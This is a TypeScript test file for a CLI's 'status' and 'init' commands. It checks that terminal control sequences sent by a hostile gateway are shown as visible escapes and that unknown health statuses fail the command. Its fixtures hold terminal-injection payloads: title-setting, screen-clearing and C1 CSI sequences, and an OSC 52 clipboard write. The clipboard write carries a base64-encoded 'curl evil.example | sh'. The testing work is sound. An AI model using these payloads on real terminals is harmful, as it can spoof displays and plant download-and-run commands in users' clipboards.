// Issue 21, item 6: `switchyard status` printed a gateway's strings raw, so a hostile (or
// compromised) gateway could set the terminal's title, clear the screen to draw a fake "ALL GOOD",
// or write the clipboard (OSC 52) — and the command still exited 0. `init` replaced C0 controls but
// let C1 through (U+009B is CSI on many terminals). Now every printed cell goes through one
// sanitiser (src/core/visible-text.ts) that shows C0, DEL and C1 as visible escapes, and a status
// word the CLI does not know makes the exit non-zero.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { once } from 'node:events';
import { Writable } from 'node:stream';
import { statusCommand } from '#src/cli/status.ts';
import { commentSafe, renderInitConfig } from '#src/cli/init-config.ts';
import { HangupRelay } from '#src/cli/hangups.ts';
import { systemClock } from '#src/core/clock.ts';

/** Anything a terminal acts on: C0 but the newline, DEL, C1. */
const CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;

const OSC52 = '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07';
const TITLE = '\x1b]0;ALL GOOD\x07';
const CLEAR = '\x1b[2J\x1b[H';
const C1_CSI = '\u009b2J';

function hostileReport(status: string) {
  return {
    hosts: [
      {
        name: `gpu${TITLE}`,
        url: 'http://127.0.0.1:1',
        kind: `vllm${C1_CSI}`,
        kv: 'unified',
        role: 'single',
        health: { status, fails: 0, last_error: `${CLEAR}ALL GOOD${OSC52}\u0085` },
        wake: null,
        discovery: { state: 'known', fails: 0, last_error: null },
        loaded: [`m${OSC52}`],
        available_on_demand: [],
        models: {},
        in_flight: 0,
        leases: {},
        router: null,
        load: null,
      },
    ],
    queue_depth: {},
  };
}

async function runStatusAgainst(report: unknown): Promise<{ code: number; out: string; err: string }> {
  const server = createServer((_req, res) =>
    res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(report)),
  );
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const address = server.address();
  const port = typeof address === 'object' && address !== null ? address.port : 0;
  const sink = (): Writable & { text: string } => {
    const chunks: string[] = [];
    const w = new Writable({
      write(chunk: Buffer, _enc, done) {
        chunks.push(chunk.toString('utf8'));
        done();
      },
    });
    return Object.defineProperty(w, 'text', { get: () => chunks.join('') }) as Writable & { text: string };
  };
  const stdout = sink();
  const stderr = sink();
  try {
    const code = await statusCommand(systemClock)(['--url', `http://127.0.0.1:${port}`], {
      stdout,
      stderr,
      env: {},
      signal: new AbortController().signal,
      hangups: new HangupRelay(0),
    });
    return { code, out: stdout.text, err: stderr.text };
  } finally {
    server.closeAllConnections();
    server.close();
  }
}

test('status prints no control character a gateway sent, and shows each one visibly', async () => {
  const { code, out, err } = await runStatusAgainst(hostileReport('healthy'));
  assert.doesNotMatch(out, CONTROL, JSON.stringify(out));
  assert.doesNotMatch(err, CONTROL, JSON.stringify(err));
  assert.match(out, /gpu\\x1b\]0;ALL GOOD\\x07/, 'the title sequence is shown, not run');
  assert.match(out, /vllm\\x9b2J/, 'C1 CSI is shown, not run');
  assert.match(out, /\\x1b\[2J/, 'the screen clear is shown, not run');
  assert.equal(code, 0, 'the statuses are known words: a healthy node');
});

test('a status word the CLI does not know exits non-zero and says which', async () => {
  const { code, out, err } = await runStatusAgainst(hostileReport(`healthy${CLEAR}`));
  assert.doesNotMatch(out, CONTROL);
  assert.doesNotMatch(err, CONTROL);
  assert.notEqual(code, 0);
  assert.match(err, /unknown health status 'healthy\\x1b\[2J\\x1b\[H'/);
  const plain = await runStatusAgainst(hostileReport('fine'));
  assert.notEqual(plain.code, 0);
  assert.match(plain.err, /unknown health status 'fine'/);
});

test("init's output shows C1 controls visibly too", () => {
  assert.doesNotMatch(commentSafe(`model${C1_CSI}\u0085\u009d0;x\u009c`), CONTROL);
  const config = renderInitConfig(
    [
      {
        found: true,
        url: 'http://127.0.0.1:1',
        detection: { kind: 'vllm', role: 'single', evidence: `v${C1_CSI}` },
        models: [{ id: `m${C1_CSI}${OSC52}`, loaded: true, ctx: undefined, slots: undefined }],
      },
    ],
    ['n'],
    { listen: '127.0.0.1:8080' },
  );
  assert.doesNotMatch(config.replaceAll('\n', ''), CONTROL, config);
  assert.match(config, /m\\x9b2J\\x1b\]52;c;/);
});
